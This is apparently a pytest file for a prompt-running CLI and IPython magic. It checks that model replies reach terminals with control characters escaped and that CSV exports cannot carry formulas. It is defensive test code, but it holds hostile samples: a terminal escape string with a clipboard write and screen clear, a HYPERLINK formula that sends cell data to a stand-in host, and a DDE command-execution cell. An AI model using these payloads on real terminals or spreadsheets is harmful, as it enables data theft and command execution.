"""What a reply may not do to a terminal or a spreadsheet (the ``pl-magic`` CLI and a terminal
IPython): control characters reach a terminal escaped, CSV cells are never formulas.

Each runs the real console script (or a terminal IPython) on a real pseudo-terminal against the
fake provider server.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys

import pytest

import pl_magic
from tests.helpers import chat, publish
from tests.test_cli import SCRIPT, cli


@pytest.fixture
def greet(openai_env):
    """A prompt with a prod label, running on the fake OpenAI server."""
    publish("greet", chat(("user", "Say hi to {name}")))
    publish("greet", chat(("user", "Hello {name}")), release_labels=["prod"])
    return "greet"


#: A hostile reply: an OSC 52 clipboard write, a screen clear, a C1 CSI, a bell, a carriage
#: return that would hide what came before it.
HOSTILE = "hi \x1b]52;c;ZXZpbA==\x07 \x1b[2J\x9b31mred\r over\tand\nout"
HOSTILE_SHOWN = "hi \\x1b]52;c;ZXZpbA==\\x07 \\x1b[2J\\x9b31mred\\x0d over\tand\nout"


def _in_pty(*argv: str, timeout: float = 60) -> tuple[int, str]:
    """Run the console script with its stdout and stderr on a real pseudo-terminal:
    (exit code, everything the terminal received, decoded)."""
    return _command_in_pty([str(SCRIPT), *argv], timeout)


def _command_in_pty(command: list[str], timeout: float = 60) -> tuple[int, str]:
    """Run ``command`` with its stdout and stderr on a real pseudo-terminal."""
    import pty
    import selectors

    master, slave = pty.openpty()
    proc = subprocess.Popen(
        command,
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=slave,
        env=os.environ.copy(),
        close_fds=True,
    )
    os.close(slave)
    chunks = []
    # a selector, not select.select: after a long suite the descriptor can be past 1024
    selector = selectors.DefaultSelector()
    selector.register(master, selectors.EVENT_READ)
    try:
        while selector.select(timeout):
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not data:
                break
            chunks.append(data)
        code = proc.wait(timeout=timeout)
    finally:
        selector.close()
        os.close(master)
    # the terminal's line discipline turns each "\n" into "\r\n"
    return code, b"".join(chunks).decode("utf-8").replace("\r\n", "\n")


def _raw_controls(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]


def test_a_reply_reaches_a_terminal_with_its_control_characters_escaped(greet, fake_provider):
    fake_provider.reply_text = HOSTILE
    for flag in ((), ("--no-stream",)):
        code, shown = _in_pty("run", "greet", "--label", "prod", "--var", "name=Ada", *flag)
        assert code == 0, shown
        assert _raw_controls(shown) == [], shown
        assert shown.startswith(HOSTILE_SHOWN + "\n"), shown
    code, shown = _in_pty("runs")
    assert code == 0 and _raw_controls(shown) == [] and "\\x1b]52;c;" in shown, shown


#: %plrun in a terminal IPython (no display updates: the reply is printed as it streams)
_TERMINAL_IPYTHON = """
from IPython.core.interactiveshell import InteractiveShell
ip = InteractiveShell.instance()
ip.run_line_magic("load_ext", "pl_magic")
ip.run_line_magic("plrun", "greet --label prod --var name=Ada")
"""


def test_plrun_in_a_terminal_ipython_escapes_control_characters(greet, fake_provider):
    fake_provider.reply_text = HOSTILE
    code, shown = _command_in_pty([sys.executable, "-c", _TERMINAL_IPYTHON])
    assert code == 0, shown
    assert _raw_controls(shown) == [], shown
    assert shown.startswith(HOSTILE_SHOWN + "\n— greet v"), shown


def test_a_template_reaches_a_terminal_escaped_and_json_stays_json(openai_env):
    publish("greet", chat(("user", "Hi {name} \x1b[2J\x9d52;c;x\x07")))
    code, shown = _in_pty("prompts", "show", "greet")
    assert code == 0 and _raw_controls(shown) == [], shown
    assert "Hi {name} \\x1b[2J\\x9d52;c;x\\x07" in shown
    code, shown = _in_pty("prompts", "show", "greet", "--json")
    assert code == 0 and _raw_controls(shown) == [], shown
    record = json.loads(shown)
    assert record["prompt_template"]["messages"][0]["content"][0]["text"] == (
        "Hi {name} \x1b[2J\x9d52;c;x\x07"
    )


def test_a_pipe_gets_the_reply_exactly_as_written(greet, fake_provider):
    fake_provider.reply_text = HOSTILE
    done = subprocess.run(  # bytes: text mode would turn the reply's "\r" into "\n"
        [str(SCRIPT), "run", "greet", "--label", "prod", "--var", "name=Ada"],
        capture_output=True,
        timeout=60,
        env=os.environ.copy(),
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.decode("utf-8") == HOSTILE + "\n"


def test_runs_csv_cells_cannot_be_formulas(greet, fake_provider, tmp_path, capsys):
    formulas = [
        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
    ]
    for text in formulas:
        fake_provider.reply_text = text
        pl_magic.run("greet", input_variables={"name": "=cmd|' /C calc'!A0"})
    fake_provider.reply_text = "a plain reply - with = inside"
    pl_magic.run("greet", input_variables={"name": "Ada"})
    path = tmp_path / "runs.csv"
    code, _, err = cli(capsys, "runs", "--csv", str(path))
    assert code == 0, err
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    outputs = [r["output"] for r in rows]
    assert outputs == [*("'" + t for t in formulas), "a plain reply - with = inside"]
    assert json.loads(rows[0]["input_variables"]) == {"name": "=cmd|' /C calc'!A0"}
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert float(rows[0]["latency_s"]) >= 0 and int(rows[0]["prompt_version"]) == 2
